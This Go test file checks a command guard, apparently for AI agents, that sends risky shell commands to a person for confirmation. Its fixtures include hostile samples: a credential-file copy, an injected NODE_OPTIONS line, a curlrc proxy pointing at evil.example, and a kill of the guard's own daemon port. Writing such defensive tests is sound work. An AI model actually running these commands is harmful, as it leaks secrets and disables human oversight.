package shell

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"testing"

	"github.com/overseer-dev/overseer/internal/action"
	"github.com/overseer-dev/overseer/internal/guard/netguard"
)

// TestDevLoopCorpus holds the corpus lines of the development loop to the
// letter: every quiet one runs without a person, and every dangerous twin
// reaches one (the corpus as a whole only needs 98% of them).
func TestDevLoopCorpus(t *testing.T) {
	env := corpusEnv(t)
	n := 0
	for _, c := range loadCorpus(t) {
		if c.line < devLoopFirstLine {
			continue
		}
		n++
		an := Analyze(c.command, env)
		switch c.label {
		case "quiet":
			if an.Level >= action.Confirm {
				t.Errorf("corpus.tsv:%d must be quiet (%s), got %s: %s\n%s", c.line, c.note, an.Level, c.command, describe(an))
			}
		case "person":
			if an.Level < action.Confirm {
				t.Errorf("corpus.tsv:%d must reach a person (%s), got %s: %s\n%s", c.line, c.note, an.Level, c.command, describe(an))
			}
		case "block":
			if an.Level != action.Block {
				t.Errorf("corpus.tsv:%d must block (%s), got %s: %s", c.line, c.note, an.Level, c.command)
			}
		}
	}
	if n < 70 {
		t.Fatalf("only %d development-loop lines found", n)
	}
}

// devLoopFirstLine is the first corpus line of the development loop: the
// lines from there on are its.
const devLoopFirstLine = 574

// TestDevLoopSQLiteRC: with a ~/.sqliterc the sqlite3 shell runs commands
// the guard has not seen before the query, so a read of the project's own
// database goes to a person again.
func TestDevLoopSQLiteRC(t *testing.T) {
	root := t.TempDir()
	env := corpusEnvAt(t, root)
	if an := Analyze(`sqlite3 dev.db .tables`, env); an.Level >= action.Confirm {
		t.Fatalf("without a .sqliterc: %s\n%s", an.Level, describe(an))
	}
	if err := os.WriteFile(filepath.Join(root, "home/u/.sqliterc"), []byte(".shell id\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if an := Analyze(`sqlite3 dev.db .tables`, env); an.Level < action.Confirm {
		t.Fatalf("with a .sqliterc: %s\n%s", an.Level, describe(an))
	}
}

// TestDevLoopDaemonPort: killing what holds Overseer's own daemon port is
// not a dev server's restart.
func TestDevLoopDaemonPort(t *testing.T) {
	env := corpusEnv(t)
	port := strconv.Itoa(netguard.DefaultDaemonPort) // SelfAPI without a home knows the default port
	if an := Analyze("lsof -ti:"+port+" | xargs kill", env); an.Level < action.Confirm {
		t.Fatalf("kill of the daemon's port: %s\n%s", an.Level, describe(an))
	}
}

// TestTemplateCopyFact: the write of cp .env.example .env is marked as a
// copy of its template only when git tracks the template beside it and
// nothing else in the command writes the file.
func TestTemplateCopyFact(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	root := t.TempDir()
	proj := filepath.Join(root, "home/u/proj")
	for f, text := range map[string]string{"home/u/proj/.env.example": "PORT=3000\n", "home/u/proj/web/.env.example": "X=1\n",
		"home/u/proj/untracked/.env.example": "X=1\n", "home/u/proj/.env.production.example": "X=1\n"} {
		p := filepath.Join(root, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git := exec.Command("sh", "-c", "git init -q && git add .env.example web .env.production.example")
	git.Dir = proj
	git.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+root)
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git: %v\n%s", err, out)
	}
	env := Env{Cwd: "/home/u/proj", Home: "/home/u", FS: os.DirFS(root)}
	tests := []struct {
		cmd, dst string
		want     bool
	}{
		{"cp .env.example .env", "/home/u/proj/.env", true},
		{"cp web/.env.example web/.env", "/home/u/proj/web/.env", true},
		{"cp .env.production.example .env.production", "/home/u/proj/.env.production", true},
		{"cp untracked/.env.example untracked/.env", "/home/u/proj/untracked/.env", false},
		{"cp .env.example .env && echo 'NODE_OPTIONS=--require ./x.js' >> .env", "/home/u/proj/.env", false},
		{"echo A=1 > .env; cp .env.example .env", "/home/u/proj/.env", false},
		{"cp -f .env.example .env", "/home/u/proj/.env", false},
		{"cp .env.example web/.env", "/home/u/proj/web/.env", false},
		{"mv .env.example .env", "/home/u/proj/.env", false},
		{"cp ~/.aws/credentials .env", "/home/u/proj/.env", false},
		{"cp .env.example ../.env", "/home/u/.env", false},
	}
	for _, tc := range tests {
		an := Analyze(tc.cmd, env)
		got := false
		for _, f := range an.Paths {
			if f.Path == tc.dst && f.Intent == action.PathWrite && f.Template != "" {
				got = true
			}
		}
		if got != tc.want {
			t.Errorf("%s: marked %v, want %v (%+v)", tc.cmd, got, tc.want, an.Paths)
		}
	}
}

// TestDevLoopOverseerOnPort: a kill by port is not quiet when a process of
// Overseer's binary (here the test itself) holds a socket on that port.
func TestDevLoopOverseerOnPort(t *testing.T) {
	if _, err := os.Stat("/proc/net/tcp"); err != nil {
		t.Skip("no /proc")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	if port < 1024 || port >= 32768 {
		// An ephemeral port is not quiet anyway; find one in the dev range.
		ln.Close()
		for p := 20000; p < 20100; p++ {
			if ln, err = net.Listen("tcp", "127.0.0.1:"+strconv.Itoa(p)); err == nil {
				port = p
				defer ln.Close()
				break
			}
		}
		if err != nil {
			t.Skip("no free port in the dev range")
		}
	}
	if !overseerOnPort(port) {
		t.Fatalf("port %d held by this process is not seen", port)
	}
	an := Analyze("lsof -ti:"+strconv.Itoa(port)+" | xargs kill", corpusEnv(t))
	if an.Level < action.Confirm {
		t.Fatalf("kill of a port Overseer holds: %s\n%s", an.Level, describe(an))
	}
	ln.Close()
	if overseerOnPort(port) {
		t.Logf("port %d still seen after close (TIME_WAIT)", port)
	}
}

// TestDevLoopCurlrc: curl reads ~/.curlrc before its arguments (a proxy,
// --resolve): with one, a send to the dev server goes to a person again.
func TestDevLoopCurlrc(t *testing.T) {
	root := t.TempDir()
	env := corpusEnvAt(t, root)
	cmd := `curl -s -X POST http://localhost:3000/api -d '{"a": 1}'`
	if an := Analyze(cmd, env); an.Level >= action.Confirm {
		t.Fatalf("without a .curlrc: %s\n%s", an.Level, describe(an))
	}
	if err := os.WriteFile(filepath.Join(root, "home/u/.curlrc"), []byte("proxy = http://evil.example:8080\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if an := Analyze(cmd, env); an.Level < action.Confirm {
		t.Fatalf("with a .curlrc: %s\n%s", an.Level, describe(an))
	}
}
